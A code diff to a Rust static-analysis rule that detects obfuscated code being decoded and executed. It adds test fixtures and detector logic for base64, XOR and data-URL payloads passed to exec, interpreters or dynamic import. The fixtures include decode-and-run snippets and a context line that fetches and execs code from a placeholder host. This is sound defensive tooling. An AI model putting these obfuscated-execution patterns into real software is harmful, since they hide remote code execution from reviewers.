@@ -4,7 +4,7 @@ use std::sync::LazyLock;
 
 use regex::Regex;
 
-use super::source_calls::{evaluates, runs_shell, source_files, weighed};
+use super::source_calls::{evaluates, runs_shell, source_files, text_of, weighed};
 use crate::evidence::document::Document;
 use crate::evidence::source::{Argument, Call, Origins};
 use crate::evidence::zones::ZoneKind;
@@ -18,7 +18,7 @@ static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("
 
 const CARD: &str = r##"
 id = "source-decode-then-execute"
-version = 2
+version = 3
 title = "Hidden code is decoded and run"
 why = "Honest programs ship their code readable. Code that is packed into a string is packed to pass a reviewer."
 fix = "Ship the code as files."
@@ -85,6 +85,37 @@ f.write(b'from urllib.request import urlopen;exec(urlopen("https://files.test/a"
 f.close()
 subprocess.Popen(["python", f.name])
 """
+[[examples.fires]]
+note = "Numbers that are turned by another number."
+[examples.fires.files]
+"x.py" = "DATA = [12, 33]\nexec(bytes(b ^ 23 for b in DATA))\n"
+[[examples.fires]]
+note = "Decoded text goes to an interpreter."
+[examples.fires.files]
+"x.py" = '''
+import base64, subprocess, sys
+subprocess.run([sys.executable, "-c", base64.b64decode("cHJpbnQoMSk=").decode()])
+'''
+[[examples.fires]]
+note = "Decoded text is written to a file that is run."
+[examples.fires.files]
+"x.py" = '''
+import base64, subprocess
+open("/tmp/u.py", "wb").write(base64.b64decode("cHJpbnQoMSk="))
+subprocess.Popen(["python3", "/tmp/u.py"])
+'''
+[[examples.fires]]
+note = "A module out of a literal."
+[examples.fires.files]
+"x.mjs" = 'const d = "ZXhwb3J0"; eval("0"); await import("data:text/javascript;base64," + d);'
+[[examples.silent]]
+note = "A decoded picture is handed to a program."
+[examples.silent.files]
+"x.py" = '''
+import base64, subprocess
+open("/tmp/u.png", "wb").write(base64.b64decode("cHJpbnQoMSk="))
+subprocess.run(["convert", "/tmp/u.png", "a.jpg"])
+'''
 [[examples.silent]]
 note = "A word that a scanner looks for."
 [examples.silent.files]
@@ -120,8 +151,14 @@ impl Rule for SourceDecodeThenExecute {
                 let evidence = document.text.get(at..).unwrap_or_default();
                 facts.found_as(severity, confidence, document.place(at), evidence);
             }
-            for call in file.view.calls.iter().filter(|call| evaluates(call) || runs_shell(call)) {
-                if decodes(call) {
+            for call in file.view.calls.iter().filter(|call| interprets_decoded(call)) {
+                let (severity, confidence) = weighed(&file, Severity::High, Confidence::Medium);
+                facts.found_as(severity, confidence, call.place.clone(), &call.text);
+            }
+            for call in file.view.calls.iter().filter(|call| {
+                evaluates(call) || runs_shell(call) || matches!(call.callee.as_str(), "import" | "*.constructor")
+            }) {
+                if decodes(call) || imports_data(call) {
                     let (severity, confidence) = weighed(&file, Severity::Critical, Confidence::High);
                     facts.found_as(severity, confidence, call.place.clone(), &call.text);
                 }
@@ -162,6 +199,28 @@ fn decodes(call: &Call) -> bool {
         || ["atob(", "b64decode(", "'base64')", "\"base64\")", "marshal.loads(", "fromhex("]
             .iter()
             .any(|token| opens_with(&call.text, token))
+}
+
+/// A module that is imported out of a literal rather than a file.
+fn imports_data(call: &Call) -> bool {
+    call.callee == "import"
+        && call.arguments.iter().filter_map(text_of).any(|text| {
+            text.starts_with("data:text/javascript;base64") || text.starts_with("data:application/javascript;base64")
+        })
+}
+
+/// Decoded text is handed to an interpreter, or written to a file that is handed to one.
+fn interprets_decoded(call: &Call) -> bool {
+    let starts = call.callee.starts_with("subprocess.") || call.callee.starts_with("child_process.");
+    starts
+        && call.flows.first.any(Origins::DECODED)
+        && call.arguments.first().and_then(text_of).is_some_and(|text| {
+            let mut words = text.split_whitespace();
+            let first = words.next().unwrap_or_default();
+            let program = first.rsplit('/').next().unwrap_or_default();
+            let code = words.next().is_some_and(|option| matches!(option, "-c" | "-e"));
+            code || matches!(program, "python" | "python3" | "bash" | "sh" | "zsh" | "node" | "perl" | "osascript")
+        })
 }
 
 /// `eval(text, {}, names)`: an expression with names of its own, which is how formulas are calculated.
